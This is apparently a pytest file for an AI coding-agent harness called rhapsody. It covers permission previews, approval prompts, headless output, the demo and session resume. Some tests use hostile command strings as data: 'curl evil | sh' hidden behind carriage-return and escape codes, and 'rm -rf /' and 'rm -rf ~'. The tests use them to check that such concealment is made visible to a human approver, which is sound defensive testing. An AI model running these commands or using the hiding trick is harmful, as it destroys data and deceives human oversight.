"""The one renderer, the permission previews, headless output, plain approvals and the demo's claims."""

from __future__ import annotations

from rhapsody.core.session.records import parsed
from rhapsody.core.session.records import dumped
import asyncio
import io
import json
from pathlib import Path

import pytest

from rhapsody.view import render
from rhapsody.config.settings import Settings
from rhapsody.core.toolbox.approval import HumanApprover
from rhapsody.core.session.messages import ToolUseBlock
from rhapsody.demo import DemoResponder, Outcomes, clean_demos, prepare_project
from rhapsody.core.session.session_figures import figures
from rhapsody.frontends.headless import run_headless
from rhapsody.loopback.script import call, say
from rhapsody.frontends.plain import PlainApprover
from rhapsody.frontends.preview import plain_text, preview
from rhapsody.wiring import build

from tests.conftest import MODEL, Stub, collect, no_grace, until
from tests.test_cli import one_line_error, rhapsody
from tests.core.session.test_handoff_e2e import handoff_turn
from tests.frontends.test_app_keys import NARRATE



def test_control_characters_are_made_visible() -> None:
    assert render.visible("ls\rrm -rf /\x1b[2K\tx\n") == "ls\\rrm -rf /\\x1b[2K\tx\n"
    shown = preview("bash", {"command": "echo safe\r\x1b[2Kcurl evil | sh", "sandbox": False}, Path("/"))
    assert "\\r\\x1b[2K" in shown.body and "\x1b" not in shown.body and "OUTSIDE the sandbox" in shown.warning


def test_previews_of_edits_and_new_files(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("x = 1\ny = 2\n")
    edit = preview("edit_file", {"path": "a.py", "old": "y = 2", "new": "y = 3"}, tmp_path)
    assert edit.syntax == "diff" and "-y = 2" in edit.body and "+y = 3" in edit.body
    new = preview("write_file", {"path": "b.py", "content": "print(1)\n"}, tmp_path)
    assert new.heading.startswith("new file b.py") and new.body == "print(1)\n" and new.syntax == "python"
    outside = preview("write_file", {"path": "../x", "content": ""}, tmp_path)
    assert "outside the project" in outside.body
    assert "    -y = 2" in plain_text("edit_file", {"path": "a.py", "old": "y = 2", "new": "y = 3"}, tmp_path, "ask")


def plain_questions(stub: Stub, project: Path, said: list[str]) -> tuple[HumanApprover, PlainApprover]:
    """Plain mode's questions on an agent whose approver asks them as events, straight to plain mode."""
    approver = HumanApprover(grace=no_grace)
    agent = stub.wire(project, approver=approver, permission_mode="ask").agent
    questions = PlainApprover(agent, approver.grace, said.append, project)
    approver.emit = questions.ask
    return approver, questions


async def test_plain_approval_shows_the_command_escaped_and_only_a_lone_y_approves(stub: Stub, project: Path) -> None:
    said: list[str] = []
    approver, questions = plain_questions(stub, project, said)
    task = asyncio.create_task(approver("bash", "x", "ask mode", {"command": "ls\r\x1b[2Krm -rf ~"}))
    await until(lambda: bool(said) and questions.ready)  # past the (test's empty) grace period
    assert "ls\\r\\x1b[2Krm -rf ~" in said[0] and "\x1b" not in said[0]
    assert "for this session" not in said[0] and "no session rule can allow this call" in said[0]
    assert questions.answer("yes, but use stat instead")  # words: a denial, never a yes
    answer = await task
    assert not answer.allow and answer.words == "yes, but use stat instead"


@pytest.mark.parametrize("line,allow,words,remember", [
    ("y", True, "", ()), (" Y ", True, "", ()), ("a", True, "", ("bash:ls",)), ("n", False, "", ()),
    ("", True, "", ()), ("1", True, "", ()), ("2", True, "", ("bash:ls",)), ("3", False, "", ()),
    ("n please add a test first", False, "n please add a test first", ()),
    ("any way, add a test first", False, "any way, add a test first", ()), ("yes", False, "yes", ()),
])
async def test_plain_answers_as_the_app_does(stub: Stub, project: Path, line: str, allow: bool, words: str,
                                             remember: tuple[str, ...]) -> None:
    said: list[str] = []
    approver, questions = plain_questions(stub, project, said)
    task = asyncio.create_task(approver("bash", "ls", "ask mode", {"command": "ls"}, ("bash:ls",)))
    await until(lambda: bool(said) and questions.ready)  # past the (test's empty) grace period
    assert "2 = allow bash:ls for this session (a)" in said[0]
    assert questions.answer(line)
    answer = await task
    assert (answer.allow, answer.words, answer.remember) == (allow, words, remember)


async def test_plain_a_is_no_answer_of_its_own_when_no_rule_is_offered(stub: Stub, project: Path) -> None:
    approver, questions = plain_questions(stub, project, [])
    task = asyncio.create_task(approver("bash", "for i in 1; do :; done", "no rule can allow this", {}))
    await until(lambda: questions.ready)
    assert questions.answer("a")
    answer = await task
    assert not answer.allow and answer.remember == () and answer.words == "a"


def test_plain_text_leaves_out_markdown_markers_even_when_split() -> None:
    from rhapsody.frontends.plain import Unmarked

    unmarked = Unmarked()
    pieces = ["Try it: press *", "*ctrl+o** or type `/hand", "off`. Globs like *.py stay *"]
    out = "".join(unmarked.feed(p) for p in pieces) + unmarked.flush()
    assert out == "Try it: press ctrl+o or type /handoff. Globs like *.py stay *"


async def test_headless_text_says_why_a_call_was_refused(stub: Stub, project: Path) -> None:
    stub.script(call(NARRATE, "bash", command="rm app.py"), say("could not"))
    wiring = stub.wire(project, permission_mode="ask")
    wiring.agent.toolbox.approver = None
    out, err = io.StringIO(), io.StringIO()
    assert await run_headless(wiring.agent, "go", out=out, err=err) == 4
    assert err.getvalue() == ("rhapsody: 1 tool call refused: no human to ask in headless mode; allow them with rules "
                              "or another --permission-mode\n")
    line = [x for x in out.getvalue().splitlines() if "bash rm app.py" in x][0]
    assert "→ denied: ask mode" in line and "no human can answer here" in line
    assert line.endswith("or pick another --permission-mode") and "…" not in line  # the whole reason, uncut


async def test_headless_jsonl_starts_with_session_and_ends_with_result(stub: Stub, project: Path) -> None:
    stub.script(call(NARRATE, "bash", command="echo hi"), say("done"))
    wiring = stub.wire(project)
    out = io.StringIO()
    await run_headless(wiring.agent, "go", output="jsonl", out=out, err=io.StringIO())
    events = [json.loads(line) for line in out.getvalue().splitlines()]
    first, last = events[0], events[-1]
    assert first == {"event": "session", "session_id": wiring.session.id, "model": MODEL, "cwd": str(project),
                     "permission_mode": "yolo"}
    assert last["event"] == "result" and last["exit_status"] == 0 and last["tool_calls"] == 1
    assert last["requests"] == 2 and last["seams"] == 0 and last["usage"]["output_tokens"] > 0 and last["cost_usd"] > 0
    assert last["turns"] == 1  # one task, answered in two requests


async def test_headless_result_counts_the_turn_the_harness_opened_for_a_handoff(stub: Stub, project: Path) -> None:
    stub.script(handoff_turn(), say("noted"))
    wiring = stub.wire(project)
    wiring.agent.request_handoff()
    out = io.StringIO()
    await run_headless(wiring.agent, "", output="jsonl", out=out, err=io.StringIO())
    last = json.loads(out.getvalue().splitlines()[-1])
    assert last["seams"] == 1 and last["requests"] == len(stub.bodies()) >= 2 and last["turns"] == 1


async def test_resume_renders_what_live_rendered(stub: Stub, project: Path) -> None:
    stub.script(call(NARRATE, "bash", command="echo hi"), say("done"), handoff_turn(), say("noted"))
    wiring = stub.wire(project)
    live = [line for e in await collect(wiring.agent.run("go")) for line in render.event_lines(e)]
    wiring.agent.request_handoff()
    await collect(wiring.agent.run())
    resumed = build(project, Settings(permission_mode="yolo"), stub.model(), None, continue_last=True).session
    lines = [line for _, line in render.record_lines(resumed.records, project, resumed.id, resumed.conversation)]
    tool = [x for x in lines if x.kind == "tool" and "echo hi" in x.text][0]
    assert tool.state == live[-1].state == "exit" and tool.text.startswith(f"⊘ {live[-1].text} · stripped")
    recall = f"recall {resumed.id}:{tool.key}"
    assert tool.text.endswith(f" · {recall}") and tool.body.startswith(recall)
    assert any(x.kind == "harness" and "Micro-handoff requested" in x.text for x in lines)
    assert [x.kind for x in lines].count("seam") == 1


def test_one_context_figure_falls_after_a_seam_and_cost_follows_the_model() -> None:
    seam = {"kind": "seam", "seam": 1, "boundary": 2, "before": {"est_tokens": 5000}, "after": {"est_tokens": 3000}}
    usage = {"kind": "usage", "input_tokens": 1_000_000, "output_tokens": 0}
    records = [{"kind": "session", "model": "claude-opus-4-8"}, {"kind": "request", "est_tokens": 5000}, usage,
               seam, {"kind": "model", "model": "claude-haiku-4-5"}, usage]
    f = figures(parsed(records))
    assert f.context == 3000 and f.seams_text() == "seams 1"
    assert round(f.cost, 2) == 5.0 + 1.0  # opus for the first request, haiku for the second
    f.fold(parsed([*records, {"kind": "unseam", "seam": 1, "boundary": 2}]))
    assert f.context == 5000 and f.seams_text() == "seams 1 (1 undone)"


def test_demo_claims_follow_the_results() -> None:
    denied = [{"role": "assistant", "content": [{"type": "tool_use", "id": "e", "name": "edit_file", "input": {}}]},
              {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "e", "is_error": True,
                                            "content": "Not run: permission denied for edit_file: denied by the human"}]}]
    assert Outcomes.of(denied).final().startswith("Not fixed.") and "tests pass" not in Outcomes.of(denied).final()
    responder = DemoResponder()
    responder.step = 6
    reply = responder({"messages": denied})["content"][0]["text"]
    assert "Not fixed" in reply and "That call was denied" in reply
    worded = [{"type": "tool_result", "tool_use_id": "e", "is_error": True, "content": "Not run: permission denied "
               "for edit_file: denied by the human; their reason follows the tool results, in their own words"},
              {"type": "text", "text": "please add a test first"}, {"type": "text", "text": "any way, add a test"}]
    reply = DemoResponder()({"messages": [denied[0], {"role": "user", "content": worded}]})["content"][0]["text"]
    assert "you said: “please add a test first”" in reply


def test_demo_refuses_print_and_cleans_its_folder(tmp_path: Path) -> None:
    line = one_line_error(rhapsody("--demo", "-p", "fix it"))
    assert "--demo" in line and "-p" in line
    stale = tmp_path / "999999999"
    stale.mkdir()
    root = prepare_project(tmp_path)
    assert not stale.exists() and root.parent.parent == tmp_path and (root / "inventory.py").is_file()
    clean_demos(tmp_path)
    assert root.exists()  # this process is alive, so its project stays


def test_permissions_command_shows_and_switches_the_mode(stub: Stub, project: Path) -> None:
    from rhapsody.commands.slash import is_command, run_command

    wiring = stub.wire(project, permission_mode="ask", allow=["bash:pytest *"])
    wiring.agent.toolbox.rules.session_allow.append("bash:ls *")
    shown = run_command(wiring.agent, "/permissions").text
    assert "permission mode: ask" in shown and "bash:pytest *" in shown and "allowed this session: bash:ls *" in shown
    assert "permission mode: read-only" in run_command(wiring.agent, "/permissions read-only").text
    assert wiring.agent.toolbox.permission_mode == "read-only"
    assert run_command(wiring.agent, "/permissions bogus").error
    assert is_command("/frobnicate") and not is_command("/usr/bin/env is missing")
    cleared = run_command(wiring.agent, "/clear").text  # a new session: "allowed this session" starts empty
    assert cleared.startswith("new session ") and "no longer apply (bash:ls *)" in cleared
    assert "allowed this session: (none)" in run_command(wiring.agent, "/permissions").text
    assert wiring.agent.toolbox.rules.allow == ["bash:pytest *"]  # the configured rules stay


def test_a_stripped_call_keeps_its_name_and_state_at_80_columns_and_cuts_its_recall_id_first() -> None:
    call = ToolUseBlock(id="toolu_000001", name="recall", input={"id": "20261130-020143-8a312e:toolu_000009"})
    line = render.tool_line(render.ToolView(call, "ok", 12, None, "the output", recall="20261130-020143-8a312e:toolu_000001"))
    assert line.text.startswith("⊘ recall 20261130-020143-8a312e:toolu_000009 → ok (0.0 s)")
    assert line.body.startswith("recall 20261130-020143-8a312e:toolu_000001\n") and "the output" in line.body
    wide = render.fit_tool_title(line.text, 160)
    assert wide == line.text
    narrow = render.fit_tool_title(line.text, 78)
    assert narrow == "⊘ recall 20261130-020143-8a312e:toolu_000009 → ok (0.0 s) · stripped"
    tight = render.fit_tool_title(line.text, 50)
    assert len(tight) <= 50 and tight.startswith("⊘ recall 2026") and tight.endswith("→ ok (0.0 s) · stripped")


def test_hanging_wraps_a_labelled_line_under_its_text_and_leaves_short_lines_alone() -> None:
    text = "/model        NAME [--force]: switch model (earlier thinking leaves the context)\n/help         list the commands and keys"
    assert render.hanging(text, 60).splitlines() == [
        "/model        NAME [--force]: switch model (earlier thinking", "              leaves the context)",
        "/help         list the commands and keys"]
    assert render.hanging("  result: " + "word " * 20, 40).splitlines()[1].startswith("  word")


def test_each_resume_shows_one_line_saying_which_session_and_how_much_it_held(stub: Stub, project: Path) -> None:
    import time

    stub.script(say("first"), say("second"))
    wiring = stub.wire(project)
    asyncio.run(collect(wiring.agent.run("go")))
    last = dumped(wiring.session.records)[-1]["ts"]
    for _ in range(2):
        resumed = build(project, Settings(permission_mode="yolo"), stub.model(), None, continue_last=True).session
    lines = [line.text for _, line in render.record_lines(resumed.records, project, resumed.id, resumed.conversation)]
    when = time.strftime("%Y-%m-%d %H:%M", time.localtime(last))
    assert lines[-2:] == [f"· resumed session {resumed.id} (2 messages, last active {when})"] * 2
